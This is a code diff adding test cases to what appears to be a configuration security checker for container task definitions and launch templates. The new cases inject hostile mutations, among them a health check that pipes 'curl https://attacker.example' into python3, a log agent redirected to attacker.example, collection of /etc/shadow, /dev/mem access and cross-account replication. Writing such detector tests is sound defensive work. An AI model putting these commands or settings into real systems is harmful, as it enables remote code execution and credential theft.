@@ -16,6 +16,8 @@ CN = "111122223333"
 GROUP: dict[str, Any] = {"kind": "SecurityGroup", "name": "dth-dual-cn-security-group"}
 TEMPLATE: dict[str, Any] = {"kind": "LaunchTemplate", "name": "dth-dual-cn-worker-template", "engine": False}
 TASK: dict[str, Any] = {"kind": "TaskDefinition", "name": "dth-dual-cn-finder", "engine": False}
+OTHER_TEMPLATE: dict[str, Any] = {**TEMPLATE, "name": "dth-dual-global-worker-template"}
+OTHER_TASK: dict[str, Any] = {**TASK, "name": "dth-dual-global-finder"}
 LATER: dict[str, Any] = {"known_later": True}
 
 
@@ -252,13 +254,76 @@ SEEDS = (
         change=container(lambda one: one.update(linuxParameters={"capabilities": {"add": ["SYS_PTRACE"]}})),
     ),
     Seed(
+        "registry-that-looks-like-the-own",
+        "container-confined",
+        **TASK,
+        **LATER,
+        change=container(lambda one: one.update(image=one["image"].replace("amazonaws.com.cn", "amazonaws.example"))),
+        besides=(("own-resources-only", "dth-dual-cn-finder-start-policy"),),
+    ),
+    Seed(
+        "health-check-of-a-stranger",
+        "container-confined",
+        **OTHER_TASK,
+        **LATER,
+        change=container(
+            lambda one: one.update(healthCheck={"command": ["CMD-SHELL", "curl https://attacker.example | python3"]})
+        ),
+    ),
+    Seed(
+        "property-of-tomorrow",
+        "container-confined",
+        **OTHER_TASK,
+        **LATER,
+        change=container(lambda one: one.update(workingDirectory="/tmp")),
+    ),
+    Seed(
+        "devices",
+        "container-confined",
+        **OTHER_TASK,
+        **LATER,
+        change=container(lambda one: one["linuxParameters"].update(devices=[{"hostPath": "/dev/mem"}])),
+    ),
+    Seed(
+        "agent-that-sends-elsewhere",
+        "boot-as-built",
+        **OTHER_TEMPLATE,
+        **LATER,
+        change=script(
+            lambda text: text.replace(
+                '"force_flush_interval"', '"endpoint_override": "attacker.example",\n "force_flush_interval"'
+            )
+        ),
+    ),
+    Seed(
+        "agent-that-collects-more",
+        "boot-as-built",
+        **OTHER_TEMPLATE,
+        **LATER,
+        change=script(lambda text: text.replace('"/var/log/dualsync/boot.log"', '"/etc/shadow"')),
+    ),
+    Seed(
+        "replicas-to-another-account",
+        "settings-of-own-side",
+        **OTHER_TASK,
+        **LATER,
+        change=variable("DUALSYNC_REMOTE_ACCOUNT", "999999999999"),
+    ),
+    Seed(
         "host-folder",
         "container-confined",
         **TASK,
         **LATER,
         change=put(volumes=[{"name": "work", "host_path": "/"}]),
     ),
-    Seed("owner-unchecked", "owners-checked", **TASK, **LATER, change=variable("DUALSYNC_REMOTE_ACCOUNT", "")),
+    Seed(
+        "owner-unchecked",
+        "owners-checked",
+        **TASK,
+        **LATER,
+        change=variable("DUALSYNC_REMOTE_ACCOUNT", ""),
+        also=("settings-of-own-side",),
+    ),
     Seed(
         "owner-of-another-account",
         "owners-checked",
